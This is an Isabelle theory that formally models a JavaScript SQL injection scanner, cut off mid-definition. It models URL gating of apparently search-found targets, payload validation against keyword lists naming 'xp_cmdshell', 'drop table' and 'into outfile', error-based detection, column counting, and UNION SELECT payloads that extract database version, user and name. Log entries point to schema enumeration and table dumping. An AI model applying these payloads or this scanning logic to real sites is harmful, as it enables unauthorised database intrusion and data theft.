theory Spec2Isabelle
  imports Main
begin


section \<open>JavaScript values and strings\<close>

text \<open>
  The scanner is JavaScript. A JavaScript string is modelled as a \<open>string\<close>, a list of
  code units; \<open>char\<close> has eight bits, so the model covers the strings whose code units
  are below 256. A value that may be something else than a string (the argument of
  \<open>sanitizePayload\<close> and of \<open>validateItem\<close>, both of which test \<open>typeof\<close>) is a
  \<open>js_value\<close>.
\<close>

datatype js_value =
    JString string
  | JNumber int
  | JBoolean bool
  | JNull
  | JUndefined
  | JObject

text \<open>
  White space as \<open>String.prototype.trim\<close> and the regular expression class \<open>\s\<close> read
  it (WhiteSpace and LineTerminator of ECMAScript), restricted to code units below 256:
  tab, line feed, vertical tab, form feed, carriage return, space, no-break space.
\<close>

definition isWhiteSpace :: "char \<Rightarrow> bool" where
  "isWhiteSpace c = ((of_char c :: nat) \<in> {9, 10, 11, 12, 13, 32, 160})"

definition trim :: "string \<Rightarrow> string" where
  "trim s = rev (dropWhile isWhiteSpace (rev (dropWhile isWhiteSpace s)))"

text \<open>
  \<open>toLowerCase\<close> on code units below 256: the letters A to Z, and the Latin-1 capitals
  0xC0 to 0xDE without the multiplication sign 0xD7, move up by 32.
\<close>

definition lowerChar :: "char \<Rightarrow> char" where
  "lowerChar c =
     (let n = (of_char c :: nat) in
      if (65 \<le> n \<and> n \<le> 90) \<or> (192 \<le> n \<and> n \<le> 222 \<and> n \<noteq> 215)
      then char_of (n + 32) else c)"

definition toLowerCase :: "string \<Rightarrow> string" where
  "toLowerCase s = map lowerChar s"

definition startsWith :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "startsWith s pat = (take (length pat) s = pat)"

text \<open>\<open>s.includes(pat)\<close>: \<open>pat\<close> occurs in \<open>s\<close> at some position.\<close>

fun str_includes :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "str_includes [] pat = (pat = [])"
| "str_includes (c # cs) pat = (startsWith (c # cs) pat \<or> str_includes cs pat)"

text \<open>\<open>xs.join(sep)\<close>.\<close>

fun join :: "string \<Rightarrow> string list \<Rightarrow> string" where
  "join sep [] = []"
| "join sep [x] = x"
| "join sep (x # y # ys) = x @ sep @ join sep (y # ys)"

text \<open>
  A JavaScript \<open>Set\<close> of strings keeps insertion order and holds no element twice: a
  list, with \<open>add\<close> appending an element that is not there yet. Its \<open>size\<close> is the
  length of the list.
\<close>

definition set_add :: "string \<Rightarrow> string list \<Rightarrow> string list" where
  "set_add x xs = (if x \<in> set xs then xs else xs @ [x])"

text \<open>
  A JavaScript \<open>Map\<close> with string keys, in insertion order: an association list, with
  \<open>set\<close> replacing the value of a key that is there (in place) and appending a new key.
\<close>

fun map_set :: "string \<Rightarrow> 'v \<Rightarrow> (string \<times> 'v) list \<Rightarrow> (string \<times> 'v) list" where
  "map_set k v [] = [(k, v)]"
| "map_set k v ((k', v') # m) = (if k' = k then (k, v) # m else (k', v') # map_set k v m)"

section \<open>URLs\<close>

text \<open>
  \<open>new URL(url)\<close> is the platform's parser, not code of the repository: it is a
  parameter \<open>parse\<close> of every function that calls it, \<open>None\<close> where it throws. Of the
  parsed object the scanner reads \<open>origin\<close>, \<open>hostname\<close>, \<open>pathname\<close> and the list of
  query parameters \<open>searchParams\<close>.
\<close>

record url_obj =
  origin :: string
  hostname :: string
  pathname :: string
  searchParams :: "(string \<times> string) list"

type_synonym url_parser = "string \<Rightarrow> url_obj option"

text \<open>\<open>URLSearchParams.delete(name)\<close> removes every pair of that name.\<close>

definition delete_param :: "string \<Rightarrow> (string \<times> string) list \<Rightarrow> (string \<times> string) list" where
  "delete_param name ps = filter (\<lambda>p. fst p \<noteq> name) ps"

text \<open>
  \<open>URLSearchParams.set(name, value)\<close>: the first pair of that name gets the value and
  the other pairs of that name are removed; without such a pair, one is appended.
\<close>

fun set_param :: "string \<Rightarrow> string \<Rightarrow> (string \<times> string) list \<Rightarrow> (string \<times> string) list" where
  "set_param name v [] = [(name, v)]"
| "set_param name v (p # ps) =
     (if fst p = name then (name, v) # delete_param name ps else p # set_param name v ps)"

text \<open>\<open>utils.js\<close>: \<open>extractDomain\<close> and \<open>validateUrl\<close>.\<close>

definition extractDomain :: "url_parser \<Rightarrow> string \<Rightarrow> string option" where
  "extractDomain parse url = (case parse url of Some u \<Rightarrow> Some (hostname u) | None \<Rightarrow> None)"

definition validateUrl :: "url_parser \<Rightarrow> string \<Rightarrow> bool" where
  "validateUrl parse url = (case parse url of Some u \<Rightarrow> True | None \<Rightarrow> False)"

section \<open>The URL store (candidate gate)\<close>

text \<open>
  The class \<open>URLStore\<close>. Time is \<open>Date.now()\<close> in milliseconds, an argument \<open>now\<close> of
  every method that reads the clock (a method that reads it twice gets the same value
  twice). \<open>saveState\<close> writes the state to a file and changes nothing in memory, and
  logging prints; neither is part of the state below.
\<close>

record url_store_config =
  maxPathsPerDomain :: int
  cooldownPeriod :: int

definition DEFAULT_CONFIG :: url_store_config where
  "DEFAULT_CONFIG = \<lparr>maxPathsPerDomain = 5, cooldownPeriod = 300000\<rparr>"

record url_store =
  config :: url_store_config
  testedUrls :: "string list"
  vulnerableUrls :: "(string \<times> string list) list"
  seenDomains :: "string \<rightharpoonup> string list"
  lastTestedTime :: "string \<rightharpoonup> int"

text \<open>The constructor, with the configuration already merged over the defaults.\<close>

definition newURLStore :: "url_store_config \<Rightarrow> url_store" where
  "newURLStore cfg =
     \<lparr>config = cfg, testedUrls = [], vulnerableUrls = [],
      seenDomains = Map.empty, lastTestedTime = Map.empty\<rparr>"

definition tracking_params :: "string list" where
  "tracking_params = [''utm_source'', ''utm_medium'', ''utm_campaign'', ''ref'', ''fbclid'']"

definition normalizeUrl :: "url_parser \<Rightarrow> string \<Rightarrow> string" where
  "normalizeUrl parse url =
     (case parse url of
        Some urlObj \<Rightarrow>
          (let urlObj' = urlObj\<lparr>searchParams := foldr delete_param tracking_params (searchParams urlObj)\<rparr>
           in origin urlObj' @ pathname urlObj')
      | None \<Rightarrow> url)"

definition getDomain :: "url_parser \<Rightarrow> string \<Rightarrow> string option" where
  "getDomain parse url = extractDomain parse url"

text \<open>
  \<open>isUrlTested\<close> returns its answer and the store as it leaves it. The domain is used
  only when it is truthy: not \<open>null\<close> and not the empty string. \<open>lastTestedTime.get(domain) || 0\<close>
  is 0 for a missing entry (and for an entry 0).
\<close>

definition isUrlTested :: "url_parser \<Rightarrow> int \<Rightarrow> string \<Rightarrow> url_store \<Rightarrow> bool \<times> url_store" where
  "isUrlTested parse now url st =
     (let normalizedUrl = normalizeUrl parse url;
          domain = getDomain parse url
      in if normalizedUrl \<in> set (testedUrls st) then (True, st)
         else (case domain of
                 None \<Rightarrow> (False, st)
               | Some d \<Rightarrow>
                   if d = [] then (False, st)
                   else (case seenDomains st d of
                           None \<Rightarrow> (False, st)
                         | Some paths \<Rightarrow>
                             if int (length paths) \<ge> maxPathsPerDomain (config st) then
                               (let lastTest = (case lastTestedTime st d of Some t \<Rightarrow> t | None \<Rightarrow> 0);
                                    timeSinceLastTest = now - lastTest
                                in if timeSinceLastTest < cooldownPeriod (config st) then (True, st)
                                   else (False, st\<lparr>seenDomains := (seenDomains st)(d \<mapsto> []),
                                                   lastTestedTime := (lastTestedTime st)(d \<mapsto> now)\<rparr>))
                             else (False, st))))"

text \<open>
  \<open>markUrlAsTested\<close>. Under a truthy domain \<open>new URL(url)\<close> has succeeded once, so the
  second parse for the path succeeds too; the branch where it would throw is kept and
  leaves the store as it is by then.
\<close>

definition markUrlAsTested :: "url_parser \<Rightarrow> int \<Rightarrow> string \<Rightarrow> url_store \<Rightarrow> url_store" where
  "markUrlAsTested parse now url st =
     (let normalizedUrl = normalizeUrl parse url;
          domain = getDomain parse url;
          st1 = st\<lparr>testedUrls := set_add normalizedUrl (testedUrls st)\<rparr>
      in case domain of
           None \<Rightarrow> st1
         | Some d \<Rightarrow>
             if d = [] then st1
             else (case parse url of
                     None \<Rightarrow> st1
                   | Some u \<Rightarrow>
                       (let paths = (case seenDomains st1 d of Some ps \<Rightarrow> ps | None \<Rightarrow> [])
                        in st1\<lparr>seenDomains := (seenDomains st1)(d \<mapsto> set_add (pathname u) paths),
                               lastTestedTime := (lastTestedTime st1)(d \<mapsto> now)\<rparr>)))"

definition addVulnerableUrl :: "url_parser \<Rightarrow> string \<Rightarrow> string \<Rightarrow> url_store \<Rightarrow> url_store" where
  "addVulnerableUrl parse url payload st =
     (let normalizedUrl = normalizeUrl parse url;
          found = (case map_of (vulnerableUrls st) normalizedUrl of Some ps \<Rightarrow> ps | None \<Rightarrow> [])
      in if payload \<in> set found then st
         else st\<lparr>vulnerableUrls := map_set normalizedUrl (found @ [payload]) (vulnerableUrls st)\<rparr>)"

text \<open>
  \<open>cleanupOldEntries\<close> deletes, for every domain whose last test lies more than the
  cooldown back, its entries of \<open>lastTestedTime\<close> and of \<open>seenDomains\<close>.
\<close>

definition cleanupOldEntries :: "int \<Rightarrow> url_store \<Rightarrow> url_store" where
  "cleanupOldEntries now st =
     (let old = (\<lambda>d. case lastTestedTime st d of
                        Some t \<Rightarrow> now - t > cooldownPeriod (config st) | None \<Rightarrow> False)
      in st\<lparr>lastTestedTime := (\<lambda>d. if old d then None else lastTestedTime st d),
             seenDomains := (\<lambda>d. if old d then None else seenDomains st d)\<rparr>)"

text \<open>
  The caller's protocol (\<open>searchGoogle\<close>, the filter over the URLs found): a URL is
  committed with \<open>markUrlAsTested\<close> exactly when it is valid and \<open>isUrlTested\<close> has just
  answered false. The result says whether the URL was admitted.
\<close>

definition submitUrl :: "url_parser \<Rightarrow> int \<Rightarrow> string \<Rightarrow> url_store \<Rightarrow> bool \<times> url_store" where
  "submitUrl parse now url st =
     (let isValid = validateUrl parse url;
          (isTested, st') = isUrlTested parse now url st
      in if isValid \<and> \<not> isTested then (True, markUrlAsTested parse now url st')
         else (False, st'))"

text \<open>
  The operations on the store, each with the URL and the time of the call, and a run of
  them from left to right.
\<close>

datatype store_op =
    IsUrlTested string int
  | MarkUrlAsTested string int
  | AddVulnerableUrl string string
  | CleanupOldEntries int
  | SubmitUrl string int

fun store_step :: "url_parser \<Rightarrow> url_store \<Rightarrow> store_op \<Rightarrow> url_store" where
  "store_step parse st (IsUrlTested url now) = snd (isUrlTested parse now url st)"
| "store_step parse st (MarkUrlAsTested url now) = markUrlAsTested parse now url st"
| "store_step parse st (AddVulnerableUrl url payload) = addVulnerableUrl parse url payload st"
| "store_step parse st (CleanupOldEntries now) = cleanupOldEntries now st"
| "store_step parse st (SubmitUrl url now) = snd (submitUrl parse now url st)"

definition store_run :: "url_parser \<Rightarrow> url_store \<Rightarrow> store_op list \<Rightarrow> url_store" where
  "store_run parse st ops = foldl (store_step parse) st ops"

text \<open>An admit/commit sequence: admission checks alone and submissions.\<close>

fun gate_op :: "store_op \<Rightarrow> bool" where
  "gate_op (IsUrlTested url now) = True"
| "gate_op (SubmitUrl url now) = True"
| "gate_op other = False"

section \<open>Logging\<close>

text \<open>
  Every module logs through \<open>log(level, message)\<close>, which prints. A log line is recorded
  as its level and its call site, with the values the message interpolates (the text of a
  caught error, which comes from the platform, is left out).
\<close>

datatype level = INFO | WARN | ERROR

datatype log_msg =
    InvalidItem string js_value
  | PayloadDetectedFor string string
  | DangerousPayloadDetected string
  | InvalidUrlProvided
  | NoVulnerabilitiesDetected
  | BasicVulnerabilityConfirmed
  | NoColumnsFound
  | FoundColumns nat
  | FatalErrorDuringScan
  | SqlInjectionDetected string
  | ErrorTestingPayload string
  | ErrorTestingColumnPayload nat
  | ExtractingSystemInformation
  | ErrorExtracting string
  | EnumeratingSchemas
  | ErrorExtractingSchemas
  | ExtractingStructure string
  | ErrorExtractingStructure string
  | AttemptingDump
  | DumpingTable string
  | NoColumnsForTable string
  | ErrorDumpingTable string
  | ErrorSavingResults

section \<open>Regular expressions of the scanner\<close>

text \<open>
  The marker pattern \<open>/([a-zA-Z0-9_.-]+)::/\<close>. A match that starts at the head of \<open>s\<close>
  takes the longest run of class characters there (the quantifier is greedy) and needs
  \<open>::\<close> right after it; a shorter run is followed by a class character, never by a
  colon, so backtracking finds nothing more. \<open>match_marker_at\<close> gives the group and the
  text after the match.
\<close>

definition isMarkerChar :: "char \<Rightarrow> bool" where
  "isMarkerChar c =
     (let n = (of_char c :: nat)
      in (97 \<le> n \<and> n \<le> 122) \<or> (65 \<le> n \<and> n \<le> 90) \<or> (48 \<le> n \<and> n \<le> 57)
         \<or> c = CHR ''_'' \<or> c = CHR ''.'' \<or> c = CHR ''-'')"

definition match_marker_at :: "string \<Rightarrow> (string \<times> string) option" where
  "match_marker_at s =
     (let run = takeWhile isMarkerChar s;
          rest = dropWhile isMarkerChar s
      in if run \<noteq> [] \<and> startsWith rest ''::'' then Some (run, drop 2 rest) else None)"

text \<open>
  \<open>extractDataFromResponse\<close>: \<open>responseText.match(/([a-zA-Z0-9_.-]+)::/)\<close>, the group of
  the leftmost match or \<open>null\<close>.
\<close>

fun extractDataFromResponse :: "string \<Rightarrow> string option" where
  "extractDataFromResponse [] = None"
| "extractDataFromResponse (c # cs) =
     (case match_marker_at (c # cs) of
        Some (g, rest) \<Rightarrow> Some g
      | None \<Rightarrow> extractDataFromResponse cs)"

lemma match_marker_at_shorter:
  "match_marker_at s = Some (g, rest) \<Longrightarrow> length rest < length s"
proof -
  assume a: "match_marker_at s = Some (g, rest)"
  then have "rest = drop 2 (dropWhile isMarkerChar s)" and "takeWhile isMarkerChar s \<noteq> []"
    by (auto simp add: match_marker_at_def Let_def split: if_splits)
  moreover have "length (dropWhile isMarkerChar s) \<le> length s"
    by (rule length_dropWhile_le)
  moreover have "s \<noteq> []" using calculation(2) by auto
  ultimately show ?thesis by (cases s) auto
qed

text \<open>
  The matches of the same pattern with the flag \<open>g\<close>, each as the matched text: the
  search goes on after the end of a match.
\<close>

function marker_matches :: "string \<Rightarrow> string list" where
  "marker_matches [] = []"
| "marker_matches (c # cs) =
     (case match_marker_at (c # cs) of
        Some (g, rest) \<Rightarrow> (g @ ''::'') # marker_matches rest
      | None \<Rightarrow> marker_matches cs)"
  by pat_completeness auto
termination
  by (relation "measure length") (auto dest: match_marker_at_shorter)

text \<open>\<open>s.replace(pat, rep)\<close> with a string pattern replaces the first occurrence.\<close>

fun replace_first :: "string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string" where
  "replace_first pat rep [] = (if pat = [] then rep else [])"
| "replace_first pat rep (c # cs) =
     (if startsWith (c # cs) pat then rep @ drop (length pat) (c # cs)
      else c # replace_first pat rep cs)"

definition extractListFromResponse :: "string \<Rightarrow> string list" where
  "extractListFromResponse responseText =
     filter (\<lambda>item. trim item \<noteq> [])
       (map (\<lambda>m. replace_first ''::'' [] m) (marker_matches responseText))"

text \<open>
  The patterns of \<open>validateItem\<close>, all with the flag \<open>i\<close>: a literal, or two literals
  with \<open>\s+\<close> between them. The literals are in lower case and their letters are ASCII,
  so a text matches without regard to case when its lower-case form matches.
\<close>

datatype pattern = Lit string | Spaced string string

definition match_pattern_at :: "pattern \<Rightarrow> string \<Rightarrow> bool" where
  "match_pattern_at p s =
     (case p of
        Lit w \<Rightarrow> startsWith s w
      | Spaced w1 w2 \<Rightarrow>
          startsWith s w1 \<and>
          (let r = drop (length w1) s
           in takeWhile isWhiteSpace r \<noteq> [] \<and> startsWith (dropWhile isWhiteSpace r) w2))"

fun search_pattern :: "pattern \<Rightarrow> string \<Rightarrow> bool" where
  "search_pattern p [] = match_pattern_at p []"
| "search_pattern p (c # cs) = (match_pattern_at p (c # cs) \<or> search_pattern p cs)"

definition test_pattern :: "pattern \<Rightarrow> string \<Rightarrow> bool" where
  "test_pattern p s = search_pattern p (toLowerCase s)"

section \<open>Payload catalog and validation (config.js)\<close>

definition sgbdPatterns :: "(string \<times> pattern list) list" where
  "sgbdPatterns =
     [(''mysql'', [Lit ''information_schema'', Lit ''@@version'', Lit ''mysql.user'']),
      (''postgresql'', [Lit ''pg_sleep'', Lit ''current_schema'']),
      (''sqlserver'', [Spaced ''waitfor'' ''delay'', Lit ''xp_cmdshell'']),
      (''oracle'', [Lit ''dbms_utility'', Lit ''sys.database_name''])]"

definition dangerousPatterns :: "pattern list" where
  "dangerousPatterns =
     [Spaced ''drop'' ''table'', Lit ''xp_cmdshell'', Spaced ''into'' ''outfile'',
      Spaced ''declare'' ''@cmd'', Lit ''truncate'', Spaced ''delete'' ''from'']"

text \<open>\<open>validateItem\<close> returns the lines it logs and its answer.\<close>

definition validateItem :: "js_value \<Rightarrow> string \<Rightarrow> (level \<times> log_msg) list \<times> bool" where
  "validateItem item type =
     (case item of
        JString s \<Rightarrow>
          if length (trim s) = 0 then ([(WARN, InvalidItem type item)], False)
          else if type = ''payload'' then
            (map (\<lambda>(sgbd, patterns). (INFO, PayloadDetectedFor sgbd s))
               (filter (\<lambda>(sgbd, patterns). list_ex (\<lambda>pattern. test_pattern pattern s) patterns)
                  sgbdPatterns)
             @ (if list_ex (\<lambda>pattern. test_pattern pattern s) dangerousPatterns
                then [(WARN, DangerousPayloadDetected s)] else []),
             True)
          else ([], True)
      | _ \<Rightarrow> ([(WARN, InvalidItem type item)], False))"

text \<open>
  The catalog keeps, of every list of every category, the items that
  \<open>validateItem(payload, 'payload')\<close> accepts.
\<close>

definition validate_payloads :: "js_value list \<Rightarrow> js_value list" where
  "validate_payloads xs = filter (\<lambda>payload. snd (validateItem payload ''payload'')) xs"

section \<open>Payload sanitizing (utils.js)\<close>

datatype error =
    InvalidUrl
  | PayloadNotString
  | PayloadTooLong
  | TransportFailure
  | WriteFailure

definition sanitizePayload :: "js_value \<Rightarrow> int \<Rightarrow> error + string" where
  "sanitizePayload payload maxLength =
     (case payload of
        JString s \<Rightarrow>
          if int (length s) > maxLength then Inl PayloadTooLong
          else Inr (trim (filter (\<lambda>c. c \<noteq> CHR 0x0D \<and> c \<noteq> CHR 0x0A \<and> c \<noteq> CHR '';'') s))
      | _ \<Rightarrow> Inl PayloadNotString)"

section \<open>The SQL injection scan\<close>

text \<open>
  The scan runs against collaborators that are not code of the repository; they are the
  fields of \<open>scan_env\<close>:
  \<^item> \<open>parseURL\<close> is \<open>new URL\<close>;
  \<^item> \<open>httpGet\<close> is \<open>axiosInstance.get(testUrl.toString(), ...)\<close> followed by the read of
    \<open>response.data\<close> as a string. Its argument is the URL object whose serialization is
    requested; its result is the body, or \<open>None\<close> when the promise rejects (a connection
    failure, a timeout, a status of 500 or more) or the body is not a string (the string
    method called on it throws): either way control goes to the enclosing \<open>catch\<close>;
  \<^item> \<open>DETECTION_PAYLOADS\<close> and \<open>COLUMN_PAYLOADS\<close> are the lists the module imports from
    \<open>config.js\<close>, which does not define them: they are parameters;
  \<^item> \<open>writeJSON_ok\<close> and \<open>writeSQL_ok\<close> say whether \<open>fs.writeFile\<close> succeeds for the two
    result files.

  A function of the scan returns the events it causes, in order: the requests it sends and
  the lines it logs. An exception is a value \<open>Inl e\<close>. The result object is passed in and
  returned, since the stages update it in place.
\<close>

record scan_config =
  requestDelay :: int
  maxConcurrency :: int
  maxPayloadLength :: int

definition SCAN_CONFIG :: scan_config where
  "SCAN_CONFIG = \<lparr>requestDelay = 100, maxConcurrency = 3, maxPayloadLength = 1000\<rparr>"

record database_info =
  version :: "string option"
  user :: "string option"
  currentDb :: "string option"

record sqli_result =
  vulnerable :: bool
  columns :: "string list"
  tables :: "string list"
  databases :: "string list"
  tableData :: "(string \<times> string list) list"
  databaseInfo :: database_info
  successfulPayloads :: "string list"

record scan_env =
  parseURL :: url_parser
  httpGet :: "url_obj \<Rightarrow> string option"
  DETECTION_PAYLOADS :: "string list"
  COLUMN_PAYLOADS :: "string list"
  writeJSON_ok :: bool
  writeSQL_ok :: bool

datatype event = Sent url_obj | Logged level log_msg

text \<open>The result object as \<open>testSQLInjection\<close> creates it.\<close>

definition initial_result :: sqli_result where
  "initial_result =
     \<lparr>vulnerable = False, columns = [], tables = [], databases = [], tableData = [],
      databaseInfo = \<lparr>version = None, user = None, currentDb = None\<rparr>,
      successfulPayloads = []\<rparr>"

subsection \<open>Substituting a payload into the query parameters\<close>

text \<open>
  Every stage runs
  \<^verbatim>\<open>for (const [param] of testUrl.searchParams) { testUrl.searchParams.set(param, payload); ... }\<close>
  on one URL object. The iterator is live: at each step it reads the pair at its index in
  the list as the list is then, and it ends when the index has reached the length.
  \<open>set\<close> changes the list the loop runs over, and the change stays for the later steps.
  \<open>param_loop\<close> gives the parameter lists after the successive calls of \<open>set\<close>, from
  index \<open>i\<close> on.
\<close>

lemma length_delete_param: "length (delete_param name ps) \<le> length ps"
  by (simp add: delete_param_def)

lemma length_set_param:
  "name \<in> fst ` set ps \<Longrightarrow> length (set_param name v ps) \<le> length ps"
proof (induction ps)
  case Nil
  then show ?case by simp
next
  case (Cons p ps)
  then show ?case
    using length_delete_param[of name ps] by auto
qed

function param_loop :: "string \<Rightarrow> (string \<times> string) list \<Rightarrow> nat \<Rightarrow> (string \<times> string) list list" where
  "param_loop v ps i =
     (if i < length ps
      then (let ps' = set_param (fst (ps ! i)) v ps in ps' # param_loop v ps' (Suc i))
      else [])"
  by pat_completeness auto
termination
proof (relation "measure (\<lambda>(v, ps, i). length ps - i)")
  show "wf (measure (\<lambda>(v, ps, i). length ps - i))" by simp
next
  fix v :: string and ps :: "(string \<times> string) list" and i :: nat and ps'
  assume i: "i < length ps" and ps': "ps' = set_param (fst (ps ! i)) v ps"
  have "fst (ps ! i) \<in> fst ` set ps" using i by simp
  then have "length ps' \<le> length ps" unfolding ps' by (rule length_set_param)
  then show "((v, ps', Suc i), (v, ps, i)) \<in> measure (\<lambda>(v, ps, i). length ps - i)"
    using i by simp
qed

text \<open>
  The equation of \<open>param_loop\<close> rewrites its own right-hand side, so it is taken out of the
  simplifier's rules and used through the two cases of its condition.
\<close>

declare param_loop.simps [simp del]

lemma param_loop_step:
  "i < length ps \<Longrightarrow>
   param_loop v ps i = set_param (fst (ps ! i)) v ps # param_loop v (set_param (fst (ps ! i)) v ps) (Suc i)"
  by (subst param_loop.simps) (simp add: Let_def)

lemma param_loop_done: "\<not> i < length ps \<Longrightarrow> param_loop v ps i = []"
  by (subst param_loop.simps) simp

text \<open>The URL objects a stage requests for one payload, in order.\<close>

definition probe_requests :: "url_obj \<Rightarrow> string \<Rightarrow> url_obj list" where
  "probe_requests testUrl payload =
     map (\<lambda>ps. testUrl\<lparr>searchParams := ps\<rparr>) (param_loop payload (searchParams testUrl) 0)"

text \<open>
  How the loop over the requests of one payload ended: a \<open>return\<close> from inside it, its
  normal end, or an exception (of the request).
\<close>

datatype loop_end = Returned | Finished | Threw

subsection \<open>Detection: \<open>testBasicVulnerability\<close>\<close>

text \<open>\<open>responseText.match(/sql|error|syntax/i)\<close>.\<close>

definition signature_match :: "string \<Rightarrow> bool" where
  "signature_match responseText =
     (test_pattern (Lit ''sql'') responseText \<or> test_pattern (Lit ''error'') responseText
      \<or> test_pattern (Lit ''syntax'') responseText)"

fun detection_requests :: "(url_obj \<Rightarrow> string option) \<Rightarrow> url_obj list \<Rightarrow> event list \<times> loop_end" where
  "detection_requests get [] = ([], Finished)"
| "detection_requests get (r # rs) =
     (case get r of
        None \<Rightarrow> ([Sent r], Threw)
      | Some body \<Rightarrow>
          if signature_match (toLowerCase body) then ([Sent r], Returned)
          else (let (ev, e) = detection_requests get rs in (Sent r # ev, e)))"

text \<open>
  The loop over the payloads. \<open>sanitizePayload\<close> stands before the \<open>try\<close>, so its
  exception leaves the function; \<open>new URL(url)\<close> and the requests stand inside, and their
  exception is logged before the next payload is taken.
\<close>

fun detection_loop ::
  "scan_env \<Rightarrow> scan_config \<Rightarrow> string \<Rightarrow> sqli_result \<Rightarrow> string list
     \<Rightarrow> event list \<times> (error + bool \<times> sqli_result)" where
  "detection_loop env scanConfig url result [] = ([], Inr (False, result))"
| "detection_loop env scanConfig url result (payload # rest) =
     (case sanitizePayload (JString payload) (maxPayloadLength scanConfig) of
        Inl e \<Rightarrow> ([], Inl e)
      | Inr sanitizedPayload \<Rightarrow>
          (case parseURL env url of
             None \<Rightarrow>
               (let (ev', out) = detection_loop env scanConfig url result rest
                in (Logged WARN (ErrorTestingPayload sanitizedPayload) # ev', out))
           | Some testUrl \<Rightarrow>
               (let (ev, e) = detection_requests (httpGet env) (probe_requests testUrl sanitizedPayload)
                in case e of
                     Returned \<Rightarrow>
                       (ev @ [Logged INFO (SqlInjectionDetected sanitizedPayload)],
                        Inr (True, result\<lparr>successfulPayloads :=
                                            successfulPayloads result @ [sanitizedPayload]\<rparr>))
                   | Threw \<Rightarrow>
                       (let (ev', out) = detection_loop env scanConfig url result rest
                        in (ev @ Logged WARN (ErrorTestingPayload sanitizedPayload) # ev', out))
                   | Finished \<Rightarrow>
                       (let (ev', out) = detection_loop env scanConfig url result rest
                        in (ev @ ev', out)))))"

definition testBasicVulnerability ::
  "scan_env \<Rightarrow> string \<Rightarrow> sqli_result \<Rightarrow> scan_config \<Rightarrow> event list \<times> (error + bool \<times> sqli_result)" where
  "testBasicVulnerability env url result scanConfig =
     detection_loop env scanConfig url result (DETECTION_PAYLOADS env)"

subsection \<open>Column count: \<open>findColumnCount\<close>\<close>

fun column_requests :: "(url_obj \<Rightarrow> string option) \<Rightarrow> url_obj list \<Rightarrow> event list \<times> loop_end" where
  "column_requests get [] = ([], Finished)"
| "column_requests get (r # rs) =
     (case get r of
        None \<Rightarrow> ([Sent r], Threw)
      | Some body \<Rightarrow>
          if \<not> str_includes (toLowerCase body) ''error'' then ([Sent r], Returned)
          else (let (ev, e) = column_requests get rs in (Sent r # ev, e)))"

text \<open>The loop \<open>for (let i = 0; i < COLUMN_PAYLOADS.length; i++)\<close>, from index \<open>i\<close> on.\<close>

fun column_loop ::
  "scan_env \<Rightarrow> scan_config \<Rightarrow> string \<Rightarrow> nat \<Rightarrow> string list \<Rightarrow> event list \<times> (error + nat)" where
  "column_loop env scanConfig url i [] = ([], Inr 0)"
| "column_loop env scanConfig url i (p # rest) =
     (case sanitizePayload (JString p) (maxPayloadLength scanConfig) of
        Inl e \<Rightarrow> ([], Inl e)
      | Inr payload \<Rightarrow>
          (case parseURL env url of
             None \<Rightarrow>
               (let (ev', out) = column_loop env scanConfig url (i + 1) rest
                in (Logged WARN (ErrorTestingColumnPayload (i + 1)) # ev', out))
           | Some testUrl \<Rightarrow>
               (let (ev, e) = column_requests (httpGet env) (probe_requests testUrl payload)
                in case e of
                     Returned \<Rightarrow> (ev, Inr (i + 1))
                   | Threw \<Rightarrow>
                       (let (ev', out) = column_loop env scanConfig url (i + 1) rest
                        in (ev @ Logged WARN (ErrorTestingColumnPayload (i + 1)) # ev', out))
                   | Finished \<Rightarrow>
                       (let (ev', out) = column_loop env scanConfig url (i + 1) rest
                        in (ev @ ev', out)))))"

definition findColumnCount :: "scan_env \<Rightarrow> string \<Rightarrow> scan_config \<Rightarrow> event list \<times> (error + nat)" where
  "findColumnCount env url scanConfig = column_loop env scanConfig url 0 (COLUMN_PAYLOADS env)"

subsection \<open>System information: \<open>extractSystemInfo\<close>\<close>

text \<open>\<open>Array(columnCount - 1).fill('NULL').join(',')\<close>, for a column count of 1 or more.\<close>

definition null_columns :: "nat \<Rightarrow> string" where
  "null_columns columnCount = join '','' (replicate (columnCount - 1) ''NULL'')"

definition systemInfoPayloads :: "nat \<Rightarrow> (string \<times> string) list" where
  "systemInfoPayloads columnCount =
     [(''version'', ''' UNION SELECT @@version,'' @ null_columns columnCount @ ''--''),
      (''user'', ''' UNION SELECT user(),'' @ null_columns columnCount @ ''--''),
      (''currentDb'', ''' UNION SELECT database(),'' @ null_columns columnCount @ ''--'')]"

text \<open>\<open>result.databaseInfo[key] = data\<close>, for the three keys of the list above.\<close>

definition set_info :: "string \<Rightarrow> string \<Rightarrow> database_info \<Rightarrow> database_info" where
  "set_info key data info =
     (if key = ''version'' then info\<lparr>version := Some data\<rparr>
      else if key = ''user'' then info\<lparr>user := Some data\<rparr>
      else if key = ''currentDb'' then info\<lparr>currentDb := Some data\<rparr>
      else info)"

fun info_requests ::
  "(url_obj \<Rightarrow> string option) \<Rightarrow> string \<Rightarrow> url_obj list \<Rightarrow> sqli_result
     \<Rightarrow> event list \<times> sqli_result \<times> loop_end" where
  "info_requests get key [] result = ([], result, Finished)"
| "info_requests get key (r # rs) result =
     (case get r of
        None \<Rightarrow> ([Sent r], result, Threw)
      | Some body \<Rightarrow>
          (let result' = (case extractDataFromResponse body of
                            None \<Rightarrow> result
                          | Some data \<Rightarrow>
                              if data \<noteq> []
                              then result\<lparr>databaseInfo := set_info key data (databaseInfo result)\<rparr>
                              else result);
               (ev, result'', e) = info_requests get key rs result'
           in (Sent r # ev, result'', e)))"

fun info_loop ::
  "scan_env \<Rightarrow> scan_config \<Rightarrow> string \<Rightarrow> sqli_result \<Rightarrow> (string \<times> string) list
     \<Rightarrow> event list \<times> (error + sqli_result)" where
  "info_loop env scanConfig url result [] = ([], Inr result)"
| "info_loop env scanConfig url result ((key, payload) # rest) =
     (case sanitizePayload (JString payload) (maxPayloadLength scanConfig) of
        Inl e \<Rightarrow> ([], Inl e)
      | Inr sanitizedPayload \<Rightarrow>
          (case parseURL env url of
             None \<Rightarrow>
               (let (ev', out) = info_loop env scanConfig url result rest
                in (Logged WARN (ErrorExtracting key) # ev', out))
           | Some testUrl \<Rightarrow>
               (let (ev, result', e) =
                      info_requests (httpGet env) key (probe_requests testUrl sanitizedPayload) result;
                    (ev', out) = info_loop env scanConfig url result' rest
                in if e = Threw then (ev @ Logged WARN (ErrorExtracting key) # ev', out)
                   else (ev @ ev', out))))"

definition extractSystemInfo ::
  "scan_env \<Rightarrow> string \<Rightarrow> nat \<Rightarrow> sqli_result \<Rightarrow> scan_config \<Rightarrow> event list \<times> (error + sqli_result)" where
